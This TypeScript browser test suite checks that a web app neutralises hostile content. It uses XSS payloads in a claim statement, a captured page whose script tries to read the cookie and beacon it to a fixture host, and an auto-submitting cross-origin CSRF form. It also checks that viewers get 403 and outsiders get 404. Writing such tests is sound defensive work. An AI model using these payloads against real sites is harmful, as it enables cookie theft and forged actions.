// Issue 13's security cases in a real browser: a hostile claim statement is text; a captured
// HTML page with a script cannot run it, nor touch the app's cookie or DOM, shown in the
// evidence frame or opened alone; a form posted from another origin (same site: loopback on
// another port, so SameSite=Strict does not stop it) without the CSRF token is refused; a
// viewer sees no write controls and a direct POST is 403; an outsider gets 404 pages.
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { useCaptureEnv } from '../helpers/capture-env.ts';
import { serveText, useFixtureServer } from '../helpers/fixture-server.ts';
import {
  browserUnavailable,
  chromiumPath,
  openBrowser,
  serveOnLoopback,
  type WebBrowser,
} from '../helpers/web-browser.ts';

const server = await useFixtureServer();
// A captured page that tries everything: replace its own text, read the cookie, reach into the
// parent (the app) and send what it found home. None of it may happen.
const hostile = `<!doctype html><html><head><title>Hostile page</title></head><body>
<h1 id="h">Hostile page as captured</h1>
<script>
  document.getElementById('h').textContent = 'SCRIPT RAN';
  try { parent.document.body.setAttribute('data-pwned', document.cookie || 'no-cookie'); } catch (e) {}
  try { top.document.title = 'PWNED'; } catch (e) {}
  new Image().src = '${'FIXTURE'}/beacon?c=' + encodeURIComponent(document.cookie);
  fetch('${'FIXTURE'}/beacon?fetch=1').catch(function () {});
</script>
<img src="x" onerror="document.body.setAttribute('data-onerror', '1')">
<form id="f" action="/sign-out" method="post"></form>
</body></html>`;
server.routes.set('/hostile', (req, res) =>
  serveText(hostile.replaceAll('FIXTURE', server.origin))(req, res),
);
server.routes.set('/beacon', serveText('ok', 'text/plain'));

const env = await useCaptureEnv({ FETCH_ALLOWLIST: server.host });
const origin = await serveOnLoopback(env.app);
const { app, as, editor, viewer, outsider, investigationId } = env;

const xss = `<img src=x onerror="document.body.setAttribute('data-xss','1')"> <script>document.body.setAttribute('data-xss','2')</script>`;
const claim = (
  await request(app)
    .post(`/v1/investigations/${investigationId}/claims`)
    .set(as(editor))
    .send({ statement: xss, claimant: { name: '<b>Mallory</b>' }, tags: ['<i>t</i>'] })
).body;
const cited = await env.cite(`${server.origin}/hostile`);
const source = await env.settled(cited.source.id);
const page = source.evidence.find((e: { kind: string }) => e.kind === 'page');

describe.skipIf(!chromiumPath && browserUnavailable)('the web app against hostile content', () => {
  let b: WebBrowser;
  beforeAll(async () => {
    // The fixture server is reachable so that a beacon would be seen, not merely blocked by us.
    b = await openBrowser(origin, { allow: [server.origin] });
    await b.signIn(editor.token);
  });
  afterAll(() => b?.close());

  it('shows a claim statement holding markup as text', async () => {
    await b.page.goto(`${origin}/claims/${claim.id}`);
    expect(await b.page.locator('h1').textContent()).toBe(xss);
    expect(await b.page.locator('.facts').textContent()).toContain('<b>Mallory</b>');
    expect(await b.page.locator('main img[src="x"]').count()).toBe(0);
    expect(await b.page.locator('main script').count()).toBe(0);
    await b.page.goto(`${origin}/investigations/${investigationId}`);
    expect(await b.page.getByRole('link', { name: xss }).count()).toBe(1);
    expect(await b.page.evaluate('document.body.getAttribute("data-xss")')).toBeNull();
    await b.shot('20-hostile-statement');
  });

  it('shows a captured page with a script only in a sandbox that cannot reach the app', async () => {
    expect(page.mediaType).toBe('text/html');
    const before = server.hits.get('/beacon') ?? 0;
    const response = await b.page.goto(`${origin}/evidence/${page.id}`);
    expect(response?.status()).toBe(200);
    const frame = b.page.locator('iframe#evidence-frame');
    expect(await frame.getAttribute('sandbox')).toBe('');
    const inside = b.page.frameLocator('iframe#evidence-frame');
    await inside.locator('h1').waitFor();
    expect(await inside.locator('h1').textContent()).toBe('Hostile page as captured'); // its script never ran
    await new Promise((r) => setTimeout(r, 500)); // give a beacon time to arrive, were one sent
    expect(await b.page.evaluate('document.body.getAttribute("data-pwned")')).toBeNull();
    expect(await b.page.title()).toBe(`Evidence ${page.sha256.slice(0, 12)} · claimtrail`);
    expect(server.hits.get('/beacon') ?? 0).toBe(before);
    await b.shot('21-hostile-page-sandboxed');

    // Opened alone (a new tab on the content URL), it is still sandboxed by its CSP.
    const direct = await b.context.newPage();
    try {
      const res = await direct.goto(`${origin}/evidence/${page.id}/content`);
      const csp = res?.headers()['content-security-policy'] ?? '';
      expect(csp).toMatch(/^sandbox;/);
      expect(csp).not.toContain('allow-');
      expect(await direct.locator('h1').textContent()).toBe('Hostile page as captured');
      expect(await direct.evaluate('document.title')).toBe('Hostile page');
      await new Promise((r) => setTimeout(r, 500));
      expect(server.hits.get('/beacon') ?? 0).toBe(before);
      // The document has an opaque origin: reading any cookie at all is a SecurityError (and the
      // session cookie is HttpOnly besides).
      await expect(direct.evaluate('document.cookie')).rejects.toThrow(
        /sandboxed and lacks the 'allow-same-origin' flag/,
      );
    } finally {
      await direct.close();
    }
    // Still signed in: the page's own sign-out form could not be submitted either.
    await b.page.goto(`${origin}/`);
    expect(new URL(b.page.url()).pathname).toBe('/');
  });

  it('refuses a form posted from another origin without the CSRF token', async () => {
    // The attacker's page auto-submits a form to the app. Loopback on another port is the same
    // site, so the browser sends the SameSite=Strict cookie: only the token stops it.
    server.routes.set(
      '/attack',
      serveText(`<!doctype html><form id="f" method="post" action="${origin}/claims/${claim.id}/status">
        <input name="status" value="false"></form><script>document.getElementById('f').submit()</script>`),
    );
    const answered = b.page.waitForResponse((r) => r.url().endsWith(`/claims/${claim.id}/status`));
    await b.page.goto(`${server.origin}/attack`);
    const res = await answered;
    expect(res.status()).toBe(403);
    expect(await b.page.locator('h1').textContent()).toBe('Not allowed');
    const after = await request(app).get(`/v1/claims/${claim.id}`).set(as(editor));
    expect(after.body.status).toBe('unverified');
    await b.shot('22-csrf-refused');
  });

  it('gives a viewer no write controls, and a direct POST with a valid token is 403', async () => {
    const v = await openBrowser(origin);
    try {
      await v.signIn(viewer.token);
      await v.page.goto(`${origin}/claims/${cited.claimId}`);
      expect(await v.page.locator('main form[method="post"]').count()).toBe(0);
      expect(await v.page.getByRole('button', { name: 'Cite source' }).count()).toBe(0);
      await v.page.goto(`${origin}/sources/${cited.source.id}`);
      expect(await v.page.getByRole('button', { name: 'Recapture now' }).count()).toBe(0);
      await v.page.goto(`${origin}/investigations/${investigationId}`);
      expect(await v.page.getByRole('button', { name: 'Log claim' }).count()).toBe(0);
      await v.shot('23-viewer-investigation');
      // The sign-out form holds the session's token: a viewer crafting the request gets 403.
      const token = await v.page.locator('form.signout input[name="_csrf"]').getAttribute('value');
      const res = await v.page.request.post(`${origin}/claims/${cited.claimId}/status`, {
        form: { _csrf: token!, status: 'false' },
      });
      expect(res.status()).toBe(403);
      const capture = await v.page.request.post(`${origin}/sources/${cited.source.id}/captures`, {
        form: { _csrf: token! },
      });
      expect(capture.status()).toBe(403);
    } finally {
      await v.close();
    }
  });

  it('gives an outsider 404 pages', async () => {
    const o = await openBrowser(origin);
    try {
      await o.signIn(outsider.token);
      for (const path of [
        `/investigations/${investigationId}`,
        `/claims/${claim.id}`,
        `/sources/${cited.source.id}`,
        `/evidence/${page.id}`,
      ]) {
        const res = await o.page.goto(`${origin}${path}`);
        expect(res?.status(), path).toBe(404);
        expect(await o.page.locator('h1').textContent(), path).toBe('Not found');
      }
      await o.shot('24-outsider-404');
      await o.page.goto(`${origin}/`);
      expect(await o.page.locator('main').textContent()).not.toContain('Capture tests');
    } finally {
      await o.close();
    }
  });
});
